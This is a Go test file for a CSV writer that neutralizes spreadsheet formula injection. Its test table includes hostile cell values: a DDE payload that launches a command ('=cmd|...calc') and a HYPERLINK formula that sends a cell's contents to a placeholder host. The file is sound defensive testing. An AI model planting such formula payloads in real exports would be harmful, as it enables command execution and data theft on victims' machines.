package csvout

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestNeutral(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=cmd|'/Ccalc'!A0", "'=cmd|'/Ccalc'!A0"},
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://x?x="&B2,"click")`, `'=HYPERLINK("http://x?x="&B2,"click")`},
		{"+1+1", "'+1+1"},
		{"-1+1", "'-1+1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"'=1", "''=1"},
		{"''-x", "'''-x"},
		{"-21.38", "-21.38"},
		{"+5", "+5"},
		{"0.50", "0.50"},
		{"-", "'-"},
		{"'", "'"},
		{"'abc", "'abc"},
		{"D01", "D01"},
		{"区民政局", "区民政局"},
		{"", ""},
	}
	for _, tt := range tests {
		got := Neutral(tt.in)
		assert.Equal(t, tt.want, got, "Neutral(%q)", tt.in)
		assert.Equal(t, tt.in, Restore(got), "Restore(Neutral(%q))", tt.in)
	}
}

// FuzzNeutralRoundTrip: a record written by Writer reads back (encoding/csv, then Restore
// as cloudbill's readers do) to the same cells, and no written cell is active.
func FuzzNeutralRoundTrip(f *testing.F) {
	for _, s := range []string{"=1+1", "-21.38", "'=x", "''", "@", "\t", "\r\n=1", "+5", "-", `"=a"`, "a,b", "x\ny"} {
		f.Add(s, "D01")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		if strings.ContainsRune(a+b, '\r') || !validUTF8(a+b) {
			// encoding/csv turns \r\n into \n inside quoted fields on reading; cells come
			// from decoded UTF-8 text
			t.Skip()
		}
		var buf bytes.Buffer
		w := NewWriter(&buf)
		require.NoError(t, w.WriteAll([][]string{{a, b}}))
		recs, err := csv.NewReader(&buf).ReadAll()
		require.NoError(t, err)
		require.Len(t, recs, 1)
		for i, want := range []string{a, b} {
			cell := recs[0][i]
			assert.False(t, Active(cell) && cell == want && want != "", "cell %q written active", cell)
			if len(cell) > 0 {
				c := cell[0]
				assert.False(t, c == '=' || c == '@' || c == '\t' || ((c == '+' || c == '-') && !isNumber(cell)), "written cell %q starts a formula", cell)
			}
			assert.Equal(t, want, Restore(cell))
		}
	})
}

func validUTF8(s string) bool { return strings.ToValidUTF8(s, "\uFFFD") == s }
